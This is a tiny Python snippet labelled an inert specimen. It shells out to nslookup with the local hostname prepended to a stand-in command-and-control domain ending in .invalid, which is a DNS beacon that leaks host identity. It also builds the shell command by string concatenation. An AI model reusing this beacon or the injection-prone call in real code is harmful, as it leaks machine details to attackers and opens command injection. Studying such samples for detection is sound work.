# Inert specimen: the domain does not exist.
import os
import platform

os.system("nslookup " + platform.node() + ".c2.garden-seeds.invalid")
